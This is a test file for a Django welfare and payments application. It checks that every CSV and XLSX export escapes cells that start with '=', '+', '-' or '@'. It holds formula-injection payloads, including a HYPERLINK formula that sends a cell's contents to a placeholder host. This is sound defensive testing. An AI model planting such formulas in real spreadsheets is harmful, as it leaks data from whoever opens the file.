"""Every file the application writes carries a typed `=…`, `+…`, `-…` or `@…` as text, never as
a formula a spreadsheet would run (issue 12 item 2).

The test walks the URL configuration: every URL that answers with a file must appear in
`FILE_URLS` (exercised here) or in `NOT_SPREADSHEETS` (with the reason), so a new export cannot
be added without being checked.
"""

import csv
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from accounts.roles import Role
from payments import services
from payments.models import DisbursementBatch
from tests.factories import OrganisationFactory, make_user
from tests.payments.factories import CampaignFactory, case_in, payment_in_state

FORMULA = '=HYPERLINK("http://x/?a="&C2,"x")'
PLUS, MINUS, AT = "+1+1", "-1+1", "@SUM(A1)"
POISON = (FORMULA, PLUS, MINUS, AT)
_RUNNABLE = ("=", "+", "-", "@", "\t", "\r")

# URL name -> how it is exercised below
FILE_URLS = {
    "cases:export",
    "cases:people_import_template",
    "cases:people_import_errors",
    "payments:export",
    "payments:export_full",
    "cases:export_full",
    "payments:batch_export",
    "audits:changelog_export",
    "audits:timeline_export",
    "audits:access_log_export",
    "audits:report_export",
    "jobs:download",
    "admin:cases_person_export",
    "recuperation:roster_xlsx",
    "payments:ledger_download",
    "payments:campaign_roster",
    "payments:batch_roster",
    "figures:return",
}
NOT_SPREADSHEETS = {
    "letters:campaign_signoff": "PDF",
    "letters:payment_letter": "PDF",
    "letters:case_letter": "PDF",
    "letters:file_sheet": "PDF",
    "letters:batch_signoff": "PDF",
    "letters:template_preview": "PDF",
    "cases:attachment_download": "the user's own uploaded file, served back unchanged",
    "cases:attachment_thumbnail": "an image",
    "payments:campaign_list_errors": "the same view and writer as cases:people_import_errors",
    "payments:batch_result_errors": "the same view and writer as cases:people_import_errors",
    "payments:allocation_errors": "the same view and writer as cases:people_import_errors",
    "recuperation:roster_pdf": "PDF",
    "api:payment-letter": "PDF",
    "recuperation:session_notices": "PDF",
    "recuperation:nomination_notice": "PDF",
    "audits:latest_checkpoint": "signed JSON for verify_audit, not a spreadsheet",
}
_FILE_LIKE = re.compile(
    r"export|download|errors|template$|signoff|letter$|preview$|thumbnail|xlsx|csv|pdf|notice"
    r"|checkpoint"
)
# The finance files' own totals: a SUM or SUBTOTAL over a range of the sheet, written by
# `payments.ledger.sheets`, never from a user's text.
_OWN_TOTAL = re.compile(r"^=(SUM\(|SUBTOTAL\(9,)[A-Z]+\d+:[A-Z]+\d+\)$")
_FILE_ROUTE = re.compile(r"\.(pdf|xlsx|csv|<[^>]*>)$|fmt>")


def _names(resolver=None, namespace=""):
    """(namespaced name, route) of every named URL."""
    resolver = resolver or get_resolver()
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from _names(entry, inner)
        elif isinstance(entry, URLPattern) and entry.name:
            yield namespace + entry.name, str(entry.pattern)


def test_every_url_that_answers_with_a_file_is_checked_here():
    file_like = {
        n
        for n, route in _names()
        if (_FILE_LIKE.search(n.split(":")[-1]) or _FILE_ROUTE.search(route))
        and not n.startswith("admin:")
        and n not in ("cases:people_import_preview",)
        and not n.endswith("_preview")
    }
    file_like.add("admin:cases_person_export")
    file_like.add("letters:template_preview")
    unchecked = file_like - FILE_URLS - set(NOT_SPREADSHEETS)
    assert not unchecked, f"check these downloads for formula neutralisation: {unchecked}"


def _cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if body.startswith(b"PK"):
        sheet_cells = []
        workbook = load_workbook(io.BytesIO(body))
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        assert _OWN_TOTAL.match(cell.value), (
                            f"formula {cell.coordinate}: {cell.value}"
                        )
                        continue
                    if isinstance(cell.value, str):
                        sheet_cells.append(cell.value)
        return sheet_cells
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutralised(response, *, expect_poison=True):
    assert response.status_code == 200, response.status_code
    cells = _cells(response)
    runnable = [c for c in cells if c.startswith(_RUNNABLE)]
    assert not runnable, runnable
    if expect_poison:
        assert any(c.startswith("'") and c[1:] in POISON for c in cells), cells[:40]


@pytest.fixture
def poisoned(db, federation):
    """A payment in a batch whose person, organisation and purpose all look like formulas."""
    union = OrganisationFactory(code="POI01", name=MINUS, parent=federation)
    officer = make_user(Role.CASE_OFFICER, union, username="officer_p")
    finance = make_user(Role.FINANCE, federation, username="finance_p")
    finance2 = make_user(Role.FINANCE, federation, username="finance_p2")
    leader = make_user(Role.LEADER, federation, username="leader_p")
    admin = make_user(Role.ADMINISTRATOR, federation, username="admin_p", is_staff=True)
    campaign = CampaignFactory(organisation=federation, created_by=admin, name=AT)
    case = case_in(union, officer=officer)
    person = case.person
    person.name, person.bank_name, person.position = FORMULA, PLUS, AT
    person.save()
    payment = payment_in_state(
        "approved", campaign=campaign, officer=officer, finance=finance, leader=leader, case=case
    )
    payment.purpose = FORMULA
    payment.save(update_fields=["purpose"])
    services.create_batch(campaign, [payment.pk], by=finance)
    return {
        "officer": officer,
        "finance": finance,
        "finance2": finance2,
        "auditor": make_user(Role.AUDITOR, federation, username="auditor_p"),
        "batch": DisbursementBatch.objects.get(),
        "person": person,
        "payment": payment,
    }


@pytest.mark.parametrize("kind", ["people", "cases", "visits"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_roster_exports(client, poisoned, kind, fmt):
    client.force_login(poisoned["finance"])
    response = client.get(reverse("cases:export", args=[kind, fmt]))
    _assert_neutralised(response, expect_poison=kind != "visits")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_payments_export(client, poisoned, fmt):
    client.force_login(poisoned["finance"])
    _assert_neutralised(client.get(reverse("payments:export", args=[fmt])))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_full_number_exports(client, poisoned, fmt):
    client.force_login(poisoned["finance"])
    confirmed = {"reason": "报送市总工会", "confirm": "on"}
    for url in (
        reverse("cases:export_full", args=["people", fmt]),
        reverse("payments:export_full", args=[fmt]),
    ):
        _assert_neutralised(client.post(url, confirmed))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_bank_file(client, poisoned, fmt):
    client.force_login(poisoned["finance"])
    response = client.get(reverse("payments:batch_export", args=[poisoned["batch"].pk, fmt]))
    _assert_neutralised(response)


def test_the_people_import_template(client, poisoned):
    client.force_login(poisoned["officer"])
    _assert_neutralised(client.get(reverse("cases:people_import_template")), expect_poison=False)


def test_the_import_error_list(client, poisoned):
    client.force_login(poisoned["officer"])
    header = "姓名,身份证号,性别,手机号码,所在单位,岗位,开户行,银行账号\n"
    row = f"{PLUS},110101199003070000,男,13800000000,{AT},,{PLUS},12\n"
    preview = client.post(
        reverse("cases:people_import"),
        {"file": SimpleUploadedFile("people.csv", (header + row).encode())},
    )
    token = preview.context["upload"].token
    response = client.get(reverse("cases:people_import_errors"), {"token": token})
    _assert_neutralised(response, expect_poison=False)
    assert any(AT in cell for cell in _cells(response))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_audit_exports(client, poisoned, fmt):
    client.force_login(poisoned["auditor"])
    person = poisoned["person"]
    _assert_neutralised(client.get(reverse("audits:changelog_export", args=[fmt])))
    _assert_neutralised(
        client.get(reverse("audits:timeline_export", args=["cases.person", person.pk, fmt]))
    )
    client.get(reverse("cases:person_list"), {"q": FORMULA})
    _assert_neutralised(
        client.get(reverse("audits:access_log_export", args=[fmt])), expect_poison=False
    )
    _assert_neutralised(client.get(reverse("audits:report_export", args=["no-visit", fmt])))


def test_a_large_export_as_a_job(client, poisoned, monkeypatch, django_capture_on_commit_callbacks):
    from cases.transfers import exporting
    from jobs.models import Job

    monkeypatch.setattr(exporting, "SYNC_XLSX_ROWS", 0)
    client.force_login(poisoned["finance"])
    with django_capture_on_commit_callbacks(execute=True):
        client.get(reverse("cases:export", args=["people", "xlsx"]))
    job = Job.objects.get()
    _assert_neutralised(client.get(reverse("jobs:download", args=[job.pk])))


@pytest.mark.parametrize("fmt", ["0", "1"])  # csv, xlsx
def test_the_admin_export(client, poisoned, django_user_model, fmt):
    superuser = django_user_model.objects.create_superuser("root_p", password="x")
    client.force_login(superuser)
    fields = ("name", "organisation", "position", "bank_name")
    response = client.post(
        reverse("admin:cases_person_export"),
        {"format": fmt, "resource": "0", **{f"personresource_{f}": "on" for f in fields}},
    )
    _assert_neutralised(response)


def test_the_recuperation_roster(client, poisoned, quotas, session, nurse, officer, approver):
    from recuperation import services as recuperation

    nurse.name = FORMULA
    nurse.save()
    nominated = recuperation.nominate(session, nurse, by=officer, emergency_contact=PLUS)
    recuperation.approve_nomination(nominated, by=approver)
    client.force_login(officer)
    _assert_neutralised(client.get(reverse("recuperation:roster_xlsx", args=[session.pk])))


def test_the_ledger_and_the_rosters(client, poisoned):
    client.force_login(poisoned["finance"])
    batch = poisoned["batch"]
    union = poisoned["payment"].organisation
    _assert_neutralised(
        client.get(reverse("payments:ledger_download"), {"organisation": union.pk, "year": 2026})
    )
    _assert_neutralised(
        client.get(reverse("payments:campaign_roster", args=[batch.campaign_id, "xlsx"]))
    )
    _assert_neutralised(client.get(reverse("payments:batch_roster", args=[batch.pk, "xlsx"])))


def test_the_annual_return(client, poisoned):
    """The 年度帮扶统计表 carries a union's name (填报单位); nothing in it may run."""
    client.force_login(poisoned["finance"])
    union = poisoned["payment"].organisation
    response = client.get(
        reverse("figures:return", args=["xlsx"]), {"organisation": union.pk, "year": 2026}
    )
    _assert_neutralised(response, expect_poison=False)
    assert f"填报单位：{MINUS}" in _cells(
        client.get(reverse("figures:return", args=["xlsx"]), {"organisation": union.pk})
    )
